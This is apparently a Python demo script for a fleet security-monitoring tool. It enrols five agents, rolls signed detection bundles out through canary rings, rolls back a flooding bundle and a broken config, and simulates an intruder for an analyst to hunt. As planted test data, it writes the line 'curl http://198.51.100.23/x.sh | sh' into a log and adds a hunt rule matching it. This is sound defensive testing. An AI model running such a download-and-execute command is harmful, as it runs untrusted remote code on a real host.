"""An operator's week with a fleet, on one machine and in ``build/fleet``: real agents, broker and controller over TLS.

An agent at each of five sites becomes a member by a token. Two operators sign what they shall run; the controller takes
a good bundle through the rings, and brings back one that floods and an overlay that cuts the uplink, both at the
canary. Then an intruder visits four sites; an analyst asks for disk space, fetches the events around an alert, and
hunts for what no rule knew. Commands are printed without the options that name folders, the broker and its
certificates. In the end the Spark jobs read what has landed, and the console shows it: on a terminal until Enter.

Ends with exit code 1 when a bad change reached more than the canary, or the planted line or the intruder was not found.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Sequence
from contextlib import AbstractContextManager, ExitStack
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from demo import stage
from demo.sites import INTRUDER, SITES, intrusion, located
from demo.stage import ROOT, VEDETTE, command, say
from tests.broker import Broker, own_port
from tests.meanwhile import meanwhile

WORK = ROOT / "build" / "fleet"
FLEET = "plants"
SPARK = str(Path(VEDETTE).with_name("vedette-spark"))
PLANTED = "oslo-1"
"""Where somebody ran what no rule knew yet."""
STARTER = ("web/*", "linux/sshd_*", "linux/sudo_root*", "linux/reverse_shell*")
"""Of the starter rules what the good bundle brings beside a rule of its own."""

RULE = """\
title: {title}
id: 5c1f4f0e-3a52-4d09-9f3b-0f6d7c2e8a0{version}
status: test
description: Made for the demo of a fleet.
author: Vedette
date: 2026-11-23
logsource:
    product: linux
detection:
    keywords:
        - '{word}'
    condition: keywords
level: {level}
"""

CONFIG = """\
[agent]
id = "{site}-1"
site = "{site}"
data_dir = "{folder}/data"

[[input]]
name = "app"
type = "file"
paths = ["{folder}/app.log"]
format = "syslog"
logsource = {{ product = "linux" }}

[[input]]
name = "web"
type = "file"
paths = ["{folder}/access.log"]
format = "access"

[enrolment]
token_file = "{folder}/token"
url = "mqtts://127.0.0.1:{enrolment}"

[broker]
url = "{broker}"

[uplink]
type = "mqtt"
heartbeat = "1s"

[fleet]
undo_after = "5s"

[log]
level = "warning"
"""

FLEET_TOML = """\
[[ring]]
name = "canary"
agents = 1
soak = "8s"

[[ring]]
name = "all"
percent = 100
soak = "3s"

[gates]
baseline = "3s"
alerts_floor = 120

[[operator]]
name = "ann"
key = "{ann}"
roles = ["viewer", "analyst", "operator"]
expires = "2099-01-01T00:00:00Z"

[[group]]
name = "everyone"
match = "all"
bundle = "{bundle}"
{overlay}
"""


def until(what: str, check: Callable[[], Any], seconds: float = 120.0) -> Any:
    return stage.until(what, check, WORK, seconds)


def running(name: str, *arguments: object) -> AbstractContextManager[object]:
    """A ``vedette`` process with its output in ``build/fleet/NAME.log``."""
    return stage.running(WORK / f"{name}.log", VEDETTE, *arguments, folder=WORK)


class Centre:
    """The region's folder, its broker with a listener for hosts that have no certificate yet, and the keys."""

    def __init__(self) -> None:
        self.broker = Broker(WORK / "broker")
        self.broker.url = self.broker.url.replace("mqtt:", "mqtts:")
        self.enrolment = own_port()
        for name, *options in (
            ("broker", "--role", "broker", "--host", "127.0.0.1", "--broker", self.broker.url),
            ("enroller", "--role", "enroller"), ("land-1", "--role", "landing"),
            ("ops", "--role", "operator", "--fleet", FLEET), ("ann", "--role", "analyst", "--fleet", FLEET),
        ):  # fmt: skip
            self.vedette("member", "enroll", name, "--folder", "region", *options)
        home, region = WORK / "region/members/broker", WORK / "region"
        tls = [f"cafile {home}/region-ca.pem", f"certfile {home}/agent.pem", f"keyfile {home}/agent.key"]
        config = self.broker.config.read_text().replace("allow_anonymous true\n", "").splitlines()
        config += [*tls, "require_certificate true", "use_identity_as_username true", f"crlfile {region}/crl.pem"]
        config += ["allow_anonymous false", f"acl_file {region}/mosquitto.acl", f"pid_file {WORK}/broker.pid"]
        config += [f"password_file {region}/mosquitto.passwd", f"listener {self.enrolment} 127.0.0.1", *tls]
        self.broker.config.write_text("\n".join(config) + "\n")
        reload = WORK / "reload.sh"
        reload.write_text(f"#!/bin/sh\nkill -HUP $(cat {WORK}/broker.pid)\n")
        reload.chmod(0o755)
        self.author, self.ann = (self.vedette("bundle", "keygen", f"{name}.pem").strip() for name in ("author", "ann"))

    def vedette(self, *arguments: object, shown: str = "") -> str:
        """Its output, printed under ``shown`` as the command line; ends the demo when it fails."""
        if shown:
            print(f"$ {shown}")
        done = command(VEDETTE, *arguments, folder=WORK)
        if shown:
            print(done, end="")
        return done

    def ask(self, *arguments: object, shown: str = "") -> subprocess.CompletedProcess[str]:
        """A command whose exit code says something of the fleet."""
        done = subprocess.run([VEDETTE, *map(str, arguments)], cwd=WORK, capture_output=True, text=True)
        if shown:
            print(f"$ {shown}\n{done.stdout}{done.stderr}", end="")
        return done

    def at_broker(self, member: str = "ops") -> tuple[object, ...]:
        home = f"region/members/{member}"
        return ("--broker", self.broker.url, "--ca-file", f"{home}/region-ca.pem", "--cert-file", f"{home}/agent.pem",
                "--key-file", f"{home}/agent.key")  # fmt: skip

    def bundle(self, version: int, word: str, level: str = "low", starter: Sequence[str] = ()) -> str:
        """A signed bundle of a rule for lines with ``word`` and of starter rules, by patterns of their files."""
        rules, path = WORK / f"rules-{version}", f"bundles/{version}.vbundle"
        rules.mkdir()
        for pattern in starter:
            for file in (ROOT / "rules" / "sigma").glob(pattern):
                shutil.copy(file, rules)
        (rules / "rule.yml").write_text(RULE.format(title=f"Line with {word}", version=version, word=word, level=level))
        (WORK / "bundles").mkdir(exist_ok=True)
        self.vedette("bundle", "build", rules, "-o", path, "--version", version)
        self.vedette("bundle", "sign", path, "--key", "author.pem", "--fleet", FLEET)
        return path

    def desire(self, bundle: str, overlay: str = "") -> None:
        """``fleet.toml``, signed by two operators and published."""
        line = f'config = "{overlay}"' if overlay else ""
        (WORK / "fleet.toml").write_text(FLEET_TOML.format(ann=self.ann, bundle=bundle, overlay=line))
        self.vedette("fleet", "plan", "fleet.toml", *self.at_broker(), shown="vedette fleet plan fleet.toml")
        for name in ("carol", "dave"):
            self.vedette("fleet", "sign", "--key", f"keys/{name}.pem", shown=f"vedette fleet sign --key {name}.pem")
        self.vedette("fleet", "apply", "--landing", "landing", *self.at_broker(), shown="vedette fleet apply")

    def rollouts(self) -> list[tuple[str, str]]:
        """What each change leads to, and its state."""
        done = self.ask("fleet", "rollout", "show", "--json", *self.at_broker())
        return [(row["to"], row["state"]) for row in map(json.loads, done.stdout.splitlines())]

    def settled(self, to: str, state: str) -> None:
        """Until the controller reports the change to the target ``to`` as ``state``."""
        until(f"the change to {to} to be {state}", lambda: (to, state) in self.rollouts())
        self.ask("fleet", "rollout", "show", *self.at_broker(), shown="vedette fleet rollout show")


class Host:
    """An agent that knows the broker's address and a token; a line is written to its log ten times a second."""

    def __init__(self, centre: Centre, site: str, token: str) -> None:
        self.site, self.name, self.folder = site, f"{site}-1", WORK / f"{site}-1"
        self.folder.mkdir()
        (self.folder / "token").write_text(token + "\n")
        self.logs = self.folder / "app.log", self.folder / "access.log"
        for log in self.logs:
            log.touch()
        self.config = self.folder / "vedette.toml"
        text = CONFIG.format(site=site, folder=self.folder, enrolment=centre.enrolment, broker=centre.broker.url)
        self.config.write_text(text)

    def status(self) -> dict[str, Any]:
        """Empty while the agent starts."""
        return stage.status(self.config)

    def bundle(self) -> int:
        return int(self.status().get("actual", {}).get("bundles", {}).get("default", {}).get("version", 0))

    def installed(self) -> list[int]:
        """Versions of all bundles that it ever took, by its own record."""
        record = map(json.loads, (self.folder / "data/fleet/audit.jsonl").read_text().splitlines())
        return [row["version"] for row in record if row["event"] == "bundle_installed"]

    def write(self, text: str) -> None:
        with self.logs[0].open("a") as file:
            file.write(f"<13>{time.strftime('%b %d %H:%M:%S', time.gmtime())} {self.name} app: {text}\n")

    def visited(self, at: datetime) -> None:
        """Log what the intruder did from ``at`` on."""
        for log, lines in zip(self.logs, intrusion(self.site, at), strict=True):
            with log.open("a") as file:
                file.write("".join(f"{line}\n" for line in lines))


def busy(hosts: list[Host]) -> AbstractContextManager[None]:
    """While every host logs."""

    def write(number: int) -> None:
        for host in hosts:
            host.write(f"order {number} packed")

    return meanwhile(write)


def enrol(centre: Centre, stack: ExitStack) -> list[Host]:
    """Start the region's services, then the hosts with a token for each site; until all are members."""
    centre.vedette(
        "fleet", "init", FLEET, "--keys", "keys", "--root-key", "alice", "--root-key", "bob", "--targets-key", "carol",
        "--targets-key", "dave",
        shown=f"vedette fleet init {FLEET} --root-key alice --root-key bob --targets-key carol --targets-key dave",
    )  # fmt: skip
    centre.broker.start()
    stack.callback(centre.broker.stop)
    stack.enter_context(
        running("enroller", "region", "enroller", "--folder", "region", "--client-id", "vedette-enroller", "--reload",
                WORK / "reload.sh", "--root", "trust/tuf/1.root.json", "--trusted-key", centre.author,
                *centre.at_broker("enroller"))
    )  # fmt: skip
    stack.enter_context(
        running("landing", "region", "land", "--landing", "landing", "--seconds", 1, "--members", "region",
                *centre.at_broker("land-1"))
    )  # fmt: skip
    hosts = []
    for site, *_ in SITES:
        create = f"region token create --fleet {FLEET} --labels site={site} --uses 1"
        print(f"$ vedette {create}")
        host = Host(centre, site, centre.vedette(*create.split(), "--folder", "region").strip())
        stack.enter_context(running(host.name, "run", "-c", host.config))
        hosts.append(host)
    until("all to follow their fleet", lambda: all("actual" in host.status() for host in hosts))
    print(f"{len(hosts)} agents have made their keys and have their certificates")
    return hosts


def main() -> None:
    began = time.monotonic()
    shutil.rmtree(WORK, ignore_errors=True)
    WORK.mkdir(parents=True)
    with ExitStack() as stack:
        say("Monday: the fleet's keys, and five hosts that enrol, each by a token for its site")
        centre = Centre()
        hosts = enrol(centre, stack)
        stack.enter_context(busy(hosts))

        say("Tuesday: a bundle that two operators sign, and the controller that takes it through the rings")
        stack.enter_context(running("steer", "region", "steer", "trust", *centre.at_broker()))
        centre.desire(good := centre.bundle(1, "needle", "high", STARTER))
        centre.settled(good, "done")
        until("all to run it", lambda: all(host.bundle() == 1 for host in hosts))
        centre.ask("fleet", "status", *centre.at_broker(), shown="vedette fleet status")

        say("Wednesday: a bundle that makes an alert of every line")
        centre.desire(bad := centre.bundle(2, "packed"))
        centre.settled(bad, "aborted")
        until("it to be back", lambda: all(host.bundle() == 1 for host in hosts))
        flooded = [host.name for host in hosts if 2 in host.installed()]
        print(f"ran it: {', '.join(flooded)}; all run bundle 1 again")
        if len(flooded) != 1:
            sys.exit("a bad bundle reached more than the canary")

        say("Thursday: settings under which an agent no longer reaches its region")
        (WORK / "cut.toml").write_text('[broker]\nurl = "mqtts://127.0.0.1:1"\n')
        centre.desire(good, "cut.toml")
        centre.settled("cut.toml", "aborted")
        until("all to be connected", lambda: all(host.status().get("uplink", {}).get("connected") for host in hosts))
        print("all agents are connected")

        say("Friday: an intruder at four sites, an alert, the events around it, and a hunt for what no rule knew")
        now = datetime.now(UTC)
        for host, (*_, minutes) in zip(hosts, SITES, strict=True):
            if minutes is not None:
                host.visited(now - timedelta(minutes=30 - minutes))
        analyst = ("--key", "ann.pem", *centre.at_broker("ann"))
        centre.ask("fleet", "ask", "disk", "--group", "all", *analyst, shown="vedette fleet ask disk --group all")
        hosts[0].write("needle in the haystack")
        alert = until("the alert to land", lambda: landed("needle"))
        done = centre.ask(
            "fleet", "evidence", alert, "--around", 3, "--reason", "a needle", *analyst,
            shown=f"vedette fleet evidence {alert} --around 3 --reason 'a needle'",
        )  # fmt: skip
        if "needle in the haystack" not in done.stdout:
            sys.exit("the evidence lacks the event of the alert")

        planted = next(host for host in hosts if host.name == PLANTED)
        planted.write("curl http://198.51.100.23/x.sh | sh")
        (WORK / "hunt.yml").write_text(
            RULE.format(title="A download that is run", version=9, word="x.sh | sh", level="high")
        )
        print(until("the hunt to find it", lambda: hunted(centre, analyst), 60), end="")

        say("The record of what was signed, asked, refused and undone")
        centre.vedette("fleet", "audit", "trust/audit.jsonl", shown="vedette fleet audit trust/audit.jsonl")
        record = f"{hosts[0].name}/data/fleet/audit.jsonl"
        centre.vedette("fleet", "audit", record, shown=f"vedette fleet audit {record}")

        say("Saturday: the tables, and the console over them and the fleet")
        located(WORK / "lookups", FLEET)
        all_jobs = ("all", "--landing", "landing", "--tables", "tables", "--lookups", "lookups", "--master", "local[2]")
        said = stage.command(SPARK, *all_jobs, folder=WORK, env={**os.environ, "SPARK_LOCAL_IP": "127.0.0.1"})
        print(said, end="")
        if INTRUDER not in said.partition("Look at first")[2].partition("\n\n")[0]:
            sys.exit(f"{INTRUDER} is no campaign")
        stack.enter_context(running("console", "region", "console", *console_options(centre)))
        print(until("the console to answer", lambda: first_login(WORK / "console.log")), flush=True)
        if sys.stdin.isatty():
            input("Enter ends it, and all of the demo. ")
    say(f"Done in {time.monotonic() - began:.0f} s. All of it: {WORK.relative_to(ROOT)}")


def console_options(centre: Centre) -> tuple[object, ...]:
    """It asks hosts as ann, and signs proposals with the keys of all who must."""
    return (
        "--listen", f"127.0.0.1:{own_port()}", "--tables", "tables", "--landing", "landing", "--reports", "reports",
        "--trust", "trust", "--fleet-file", "fleet.toml", "--requests", "requests", "--evidence", "evidence",
        "--operator", "ann", "--operator-key", "ann.pem", "--author-key", "author.pem",
        "--signer-key", "keys/carol.pem", "--signer-key", "keys/dave.pem", "--rules", "rules-1", "--crl",
        "region/crl.pem", "--members", "region", "--authorities", "region/members/ops/region-ca.pem",
        *centre.at_broker(),
    )  # fmt: skip


def first_login(log: Path) -> str:
    """The address of the console, and the link by which its first user logs in; empty: it does not answer yet."""
    lines = [line for line in log.read_text().splitlines() if line.startswith(("console  ", "first login"))]
    return "\n".join(lines) if len(lines) == 2 else ""


def landed(word: str) -> str:
    """The id of an alert about a line with ``word``; empty: it has not landed."""
    import pyarrow.dataset

    folder = WORK / "landing" / "alerts"
    if not folder.exists():
        return ""
    table = pyarrow.dataset.dataset(folder, format="parquet").to_table(columns=["alert_id", "raw"])
    return next((row["alert_id"] for row in table.to_pylist() if word in (row["raw"] or "")), "")


def hunted(centre: Centre, analyst: tuple[object, ...]) -> str:
    """The output of a hunt over all hosts, once it names the planted line."""
    words = ("fleet", "hunt", "hunt.yml", "--group", "all", "--since", "1h", "--reason", "case 17")
    done = centre.ask(*words, *analyst)
    shown = f"$ vedette fleet hunt hunt.yml --group all --since 1h --reason 'case 17'\n{done.stdout}"
    return shown if re.search(rf"^{PLANTED} +done .* 1$", done.stdout, re.M) else ""


if __name__ == "__main__":
    main()
